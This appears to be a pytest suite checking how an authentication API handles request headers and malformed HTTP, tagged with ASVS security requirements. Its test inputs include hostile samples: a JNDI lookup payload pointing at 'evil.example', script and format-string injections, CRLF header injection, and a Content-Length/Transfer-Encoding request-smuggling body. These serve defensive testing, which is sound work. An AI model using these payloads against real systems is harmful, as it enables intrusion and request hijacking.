"""Headers that no well-behaved client sends, and those that every answer has."""

import pytest

from tests.attacks.contract import HEADERS, check_headers, check_problem, check_refused
from tests.attacks.endpoints import SCRIPT, ask
from tests.attacks.wire import JSON, exchange, head, post
from tests.harness.client import PASSWORD
from tests.harness.service import Service

CREDENTIALS = {"email": "eve@example.com", "password": PASSWORD}


@pytest.mark.parametrize("given", ["a", "A.b_c-9", "0" * 64, "..", "-"])
def test_a_good_request_id_is_kept(service: Service, given: str) -> None:
    """In the header and in the problem."""
    answer = ask(service, "POST /verify-session", f"X-Request-Id: {given}")
    assert answer.header("x-request-id") == answer.json()["request_id"] == given


@pytest.mark.asvs("16.4.1")
@pytest.mark.parametrize(
    "given",
    [
        "",
        "0" * 65,
        "a b",
        "a,b",
        "a\tb",
        "é",
        "../x",
        "<script>",
        "a\r\nX-Request-Id: b",
        "a;b=c",
        '"',
        "%0d%0a",
        "x" * 9000,
    ],
)
def test_any_other_is_replaced(service: Service, given: str) -> None:
    """By one that can be looked up in a log, and nothing of the other is echoed."""
    answers = [
        ask(service, line, f"X-Request-Id: {given}") for line in ("POST /verify-session", "GET /none", "GET /healthz")
    ]
    ids = {answer.header("x-request-id") for answer in answers}
    assert len(ids) == 3
    assert given not in ids
    assert all(len(each) == 32 for each in ids)


ODD_HEADERS = [
    "X-Long: " + "x" * 60_000,
    "User-Agent: \xff\xfe\x80",
    "User-Agent: " + "Mozilla " * 5000,
    "User-Agent: %s%s%n{0.__class__} ${jndi:ldap://evil.example/a} <script>",
    "Accept: text/html;q=1, application/json;q=0",
    "Accept: \xff",
    "Accept-Language: " + "," * 5000,
    "Accept-Encoding: gzip, br",
    "Cookie: " + "a=b; " * 5000,
    "Cookie: =; ;;; =x; device; token; device; __Host-token=a.b.c",
    "Cookie: device=" + "~" * 5000,
    "Cookie: device=" + "a.b~" * 3000,
    "Cookie: \xe9",
    "X-HTTP-Method-Override: DELETE",
    "X-Forwarded-For: " + "," * 50_000,
    "X-Forwarded-For: 256.1.1.1, ::gggg, [::1]:80, unknown, \xe9, 1.2.3.4%eth0",
    "Forwarded: for=_;by=_",
    "X-Forwarded-Proto: https",
    "X-Original-URL: /admin",
    "X-Rewrite-URL: /admin",
    "Upgrade: websocket\r\nConnection: Upgrade",
    "Expect: 200-maybe",
    "Range: bytes=0-1",
    "If-None-Match: *",
    "If-Modified-Since: yesterday",
    "Referer: \xff",
    "Origin: http://127.0.0.1:99999999\r\nAuthorization: Bearer x",
    "Sec-Fetch-Site: none\r\nOrigin: http://[::1",
    "SCRIPT_NAME: /x\r\nPATH_INFO: /x\r\nREMOTE_ADDR: 1.2.3.4\r\nwsgi.input: x\r\nuser_auth.request_id: x",
    "Proxy: http://evil.example",
]


@pytest.mark.parametrize("header", ODD_HEADERS, ids=lambda header: ascii(header[:40]))
def test_odd_headers_change_nothing(service: Service, header: str) -> None:
    """Too long, not text, meant for other servers: the answer is the one without them."""
    answer = exchange(service, post("/login", CREDENTIALS, header))
    check_problem(answer, 401, "invalid_credentials")
    assert answer.header("content-type") == "application/problem+json"
    assert not answer.all("set-cookie")


@pytest.mark.asvs("4.2.1")
@pytest.mark.parametrize(
    "header",
    [
        "X-Folded: a\r\n b",
        "X-Spaced : a",
        " X-Indented: a",
        "X-Bare-CR: a\rSet-Cookie: b",
        "X-Nul: a\x00b",
        "X-\xe9: a",
        "No colon at all",
        ": no name",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: xchunked",
        "Content-Length: 5\r\nContent-Length: 6",
        "\r\n".join(f"X-{number}: a" for number in range(200)),
        "X-Long: " + "x" * 200_000,
    ],
    ids=lambda header: ascii(header[:40]),
)
def test_what_two_servers_could_read_in_two_ways_is_no_request(service: Service, header: str) -> None:
    """Folded lines, two lengths, unknown transfer codings, headers without end: the parser refuses all of it."""
    answer = ask(service, "POST /verify-session", header)
    assert answer.status in (400, 431)
    assert not answer.body


@pytest.mark.asvs("4.2.1")
def test_a_length_and_chunks_together_are_refused(service: Service) -> None:
    """Whichever counted, whoever stands in front might have counted the other (RFC 9112 §6.3)."""
    body = b'{"email":"eve@example.com","password":"x"}'
    smuggled = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) + head("GET /healthz")
    answer = exchange(service, head("POST /login", JSON, "Content-Length: 4", "Transfer-Encoding: chunked") + smuggled)
    check_refused(answer)


@pytest.mark.parametrize(
    "nonsense",
    [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n",
        b"GET /\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTP/1.1\r\n\r\n",
        b"hello\r\n\r\n",
        b"GET /\xff HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /a\x00b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    ],
    ids=lambda nonsense: repr(nonsense[:24]),
)
def test_what_is_not_http_is_refused(service: Service, nonsense: bytes) -> None:
    """Bare, as the parser does it."""
    check_refused(exchange(service, nonsense))


@pytest.mark.asvs("3.4.4", "3.4.5", "13.4.6", "14.3.2")
def test_the_headers_of_every_kind_of_answer(service: Service) -> None:
    """Success and refusal, page and document, key set and static file: each has what the contract asks for."""
    lines = ["GET /healthz", "GET /openapi.json", "GET /docs", "GET /docs/errors/not_found", "GET /none", "BREW /login"]
    for line in [*lines, "POST /logout", "POST /verify-session", "OPTIONS /login"]:
        check_headers(ask(service, line))
    for line in ("GET /.well-known/jwks.json", f"GET {SCRIPT}"):
        answer = ask(service, line)
        wanted = {name: value for name, value in HEADERS.items() if name != "cache-control"}
        assert {name: answer.header(name) for name in wanted} == wanted
        assert "no-store" not in answer.header("cache-control")
        assert answer.header("x-request-id")
        assert not answer.header("server")


@pytest.mark.asvs("3.2.1", "4.1.1")
@pytest.mark.parametrize("accept", ["text/html", "application/xml", "*/*;q=0", "image/*"])
def test_json_is_what_the_api_speaks(service: Service, accept: str) -> None:
    """No browsable page, no 406; what a browser may not have is a page only where nobody else asks."""
    for line in ("POST /verify-session", "GET /healthz", "POST /none", "GET /account/export"):
        token = "Authorization: Bearer x"
        assert "json" in ask(service, line, f"Accept: {accept}", token).header("content-type")
    for line in ("POST /verify-session", "GET /healthz", "POST /none", "PUT /login"):
        assert "json" in ask(service, line, f"Accept: {accept}").header("content-type")
